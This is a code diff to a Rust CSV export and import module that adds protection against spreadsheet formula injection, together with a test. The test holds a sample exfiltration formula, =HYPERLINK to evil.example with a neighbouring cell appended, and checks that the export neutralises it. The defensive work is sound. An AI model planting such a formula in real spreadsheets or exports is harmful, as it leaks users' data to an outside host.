@@ -11,6 +11,7 @@ use crate::db::organisations::{OrganisationForCreate, insert};
 use crate::domain::Localized;
 use crate::domain::account::is_email;
 use crate::domain::identifiers::{is_phone, is_registry_code, is_web_address};
+use crate::domain::text::{guard_cell, unguard_cell};
 use crate::error::{AppError, Problem};
 use crate::i18n::Lang;
 use serde_json::{Map, Value};
@@ -167,9 +168,23 @@ pub async fn export(pool: &SqlitePool, separator: Separator) -> Result<Vec<u8>, 
         .from_writer("\u{feff}".as_bytes().to_vec());
     out.write_record(COLUMNS).map_err(|e| failed(&e))?;
     for entry in &entries {
-        out.write_record(entry.cells()).map_err(|e| failed(&e))?;
+        out.write_record(entry.cells().iter().map(|cell| guard_cell(cell)))
+            .map_err(|e| failed(&e))?;
     }
     out.into_inner().map_err(|e| failed(&e))
+}
+
+/// A cell as stored: line breaks as `\n` in the columns that may have several lines (the
+/// texts, the links), none in the others, and no other control character.
+fn clean_cell(column: &str, cell: &str) -> String {
+    use crate::domain::text::{clean_line, clean_text};
+    let multi_line =
+        column.starts_with("description_") || column.starts_with("services_") || column == "links";
+    if multi_line {
+        clean_text(cell)
+    } else {
+        clean_line(cell)
+    }
 }
 
 /// What an import would do. Rows are matched to entries by registry code, else by the slug of
@@ -588,12 +603,17 @@ pub async fn plan(pool: &SqlitePool, file: &[u8]) -> Result<ImportPlan, sqlx::Er
             ));
             continue;
         }
+        let cells: Vec<String> = header
+            .iter()
+            .zip(record.iter())
+            .map(|(column, cell)| clean_cell(column, unguard_cell(cell)))
+            .collect();
         let mut row = RowReader {
             line,
             cells: header
                 .iter()
                 .map(String::as_str)
-                .zip(record.iter())
+                .zip(cells.iter().map(String::as_str))
                 .collect(),
             problems: Vec::new(),
         };
@@ -647,9 +667,16 @@ pub async fn read_entry(
     cells: &HashMap<&str, &str>,
 ) -> Result<(Entry, Vec<ImportProblem>), sqlx::Error> {
     let known = known(pool).await?;
+    let cleaned: Vec<(&str, String)> = cells
+        .iter()
+        .map(|(column, cell)| (*column, clean_cell(column, cell)))
+        .collect();
     let mut row = RowReader {
         line: 0,
-        cells: cells.clone(),
+        cells: cleaned
+            .iter()
+            .map(|(column, cell)| (*column, cell.as_str()))
+            .collect(),
         problems: Vec::new(),
     };
     let entry = row.entry(&known);
@@ -1210,6 +1237,55 @@ mod tests {
     }
 
     #[tokio::test]
+    async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_unchanged() {
+        let pool = with_entries().await;
+        let mut tx = pool.begin().await.unwrap();
+        let mut forged = OrganisationForCreate::sample("valem", "narva");
+        forged.name = r#"=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.into();
+        forged.description = Localized::new(
+            Some("'=already a quote".into()),
+            Some("-1+1".into()),
+            Some("@SUM(1)".into()),
+        );
+        forged.phone = Some("+372 5555 4321".into());
+        insert(&mut tx, &forged).await.unwrap();
+        tx.commit().await.unwrap();
+
+        let file = export(&pool, Separator::Semicolon).await.unwrap();
+        let text = String::from_utf8(file.clone()).unwrap();
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .map(|r| r.unwrap())
+            .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
+            .unwrap()
+            .iter()
+            .map(str::to_owned)
+            .collect();
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell Excel would run: {cell}"
+            );
+        }
+        assert!(
+            cells.contains(&r#"'=HYPERLINK("http://evil.example/?leak="&D2,"Click")"#.to_owned())
+        );
+        assert!(cells.contains(&"'+372 5555 4321".to_owned()));
+        assert!(cells.contains(&"''=already a quote".to_owned()));
+
+        let planned = plan(&pool, &file).await.unwrap();
+        assert_eq!(problems(&planned), vec![]);
+        assert_eq!(
+            (planned.new.len(), planned.updated.len(), planned.unchanged),
+            (0, 0, 3),
+            "the round trip changes nothing"
+        );
+    }
+
+    #[tokio::test]
     async fn a_messy_file_is_read_and_a_bad_registry_code_is_told_by_line_and_column() {
         let pool = with_entries().await;
         let mut file = format!("\u{feff}{HEADER}\r\n");
@@ -1235,9 +1311,10 @@ mod tests {
             .iter()
             .find(|e| e.name == "Narva Valguskoda OÜ")
             .unwrap();
+        // Windows line ends inside the cell are stored as plain line breaks.
         assert_eq!(
             narva.description_et.as_deref(),
-            Some("Valgus; \"video\"\r\nja droonid")
+            Some("Valgus; \"video\"\nja droonid")
         );
         assert_eq!(narva.municipality, "narva");
         assert_eq!(narva.sectors, "film, design");
